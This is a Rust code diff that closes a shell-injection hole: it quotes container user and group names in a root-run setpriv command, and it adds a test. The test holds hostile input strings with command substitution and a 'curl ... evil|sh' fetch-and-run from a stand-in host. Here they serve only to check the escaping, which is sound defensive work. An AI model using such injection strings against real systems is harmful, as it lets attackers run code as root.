@@ -317,19 +317,43 @@ fn title_of(id: &str, spec: &ContainerSpec) -> String {
     }
 }
 
-/// What one would type to become the user that the command runs as.
+/// What one would type to become the user that the command runs as. The names may be those of
+/// an image by a stranger, and are quoted: who types it is root.
 pub(crate) fn become_command(spec: &ContainerSpec) -> String {
+    let quoted = |who: &NameOrId| shell_words::quote(&who.to_string()).into_owned();
     let User { user, group } = spec.runs_as();
+    let uid = quoted(user);
     match (user, group) {
-        (user, Group::Given(group)) => {
-            format!("setpriv --clear-groups --regid {group} --reuid {user} sh")
+        (_, Group::Given(group)) => {
+            format!("setpriv --clear-groups --regid {} --reuid {uid} sh", quoted(group))
         }
-        (NameOrId::Name(name), _) => {
-            format!("setpriv --init-groups --regid $(id -g {name}) --reuid {name} sh")
+        (NameOrId::Name(_), _) => {
+            format!("setpriv --init-groups --regid $(id -g {uid}) --reuid {uid} sh")
         }
-        (NameOrId::Id(id), Group::OfUserOrRoot) => {
-            format!("setpriv --clear-groups --regid 0 --reuid {id} sh")
+        (NameOrId::Id(_), Group::OfUserOrRoot) => {
+            format!("setpriv --clear-groups --regid 0 --reuid {uid} sh")
         }
-        (NameOrId::Id(id), _) => format!("setpriv --clear-groups --regid {id} --reuid {id} sh"),
+        (NameOrId::Id(_), _) => format!("setpriv --clear-groups --regid {uid} --reuid {uid} sh"),
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn a_name_is_a_word_of_the_shell_whatever_it_is() {
+        let become_user = |user: &str| {
+            become_command(&ContainerSpec::new("a", "true").user(user.parse::<User>().unwrap()))
+        };
+        assert_eq!(become_user("bob"), "setpriv --init-groups --regid $(id -g bob) --reuid bob sh");
+        assert_eq!(
+            become_user("$(evil):x;curl${IFS}evil|sh"),
+            "setpriv --clear-groups --regid 'x;curl${IFS}evil|sh' --reuid '$(evil)' sh"
+        );
+        assert_eq!(
+            become_user("`evil`"),
+            "setpriv --init-groups --regid $(id -g '`evil`') --reuid '`evil`' sh"
+        );
     }
 }
